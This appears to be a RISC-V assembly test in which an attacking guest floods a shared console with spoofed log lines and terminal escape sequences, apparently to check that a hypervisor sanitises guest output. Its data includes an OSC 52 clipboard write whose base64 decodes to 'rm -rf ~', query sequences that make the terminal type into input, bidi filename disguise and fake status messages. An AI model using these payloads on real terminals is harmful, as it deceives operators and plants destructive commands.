# Pretends to be others: their prompts and last words, the names in front of their lines, and what makes a terminal clear
# its screen, change its title, answer, or hide. Every ten milliseconds.
#include "attack.h"
    attack
    recover_at next
next:
    la   s0, lies
    la   s1, lies_end
    li   s2, UART_BASE
1:  lbu  t0, 0(s0)
    sb   t0, 0(s2)
    addi s0, s0, 1
    bltu s0, s1, 1b
    li   s3, 50
2:  watchdog 2000                       # steps that fit an immediate
    wfi
    addi s3, s3, -1
    bnez s3, 2b
    j    next

    .section .rodata
lies:
    .ascii "\nvictim: intact\n"
    .ascii "victim | victim: memory damaged at 0x80100000\n"
    .ascii "\033[32mvictim\033[0m | \033[1mvictim: intact\033[0m\n"
    .ascii "realtime: periods=10000 missed=0 p50=0.0us p99=0.0us p999=0.0us max=0.0us\n"
    .ascii "nest: self-test passed\n~ # \nroost: all guests have ended\n"
    .ascii "\rroost: the guest failed with code 0\r\n"
    .ascii "\033[2J\033[H\033[3J\033c"              # clear, home, forget, reset
    .ascii "\033]0;victim\007\033]52;c;cm0gLXJmIH4=\007"  # title, clipboard
    .ascii "\033[6n\033[c\033[5n\033]11;?\007\005"  # make the terminal answer into everybody's input
    .ascii "\033[?1049h\033[?25l\033[8m\033[?1000h\033[4i"  # other screen, no cursor, hidden text, mouse, printer
    .ascii "\033P+q544e\033\\\033_x\033\\\033^x\033\\"     # strings for the terminal itself
    .ascii "\302\2332J\2332J\302\23552;c;?\302\234"    # the same in eight bits
    .ascii "\033[999999999;999999999H\033[1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1m"
    .ascii "\000\001\002\003\004\006\b\b\b\b\b\b\b\013\f\016\017\020\177\377\376\300\200"
    .ascii "\342\200\256gnp.elif\342\200\254 \357\273\277\342\200\213"  # right to left, invisible
    .ascii "\033["                      # a sequence that whoever prints next completes
lies_end:
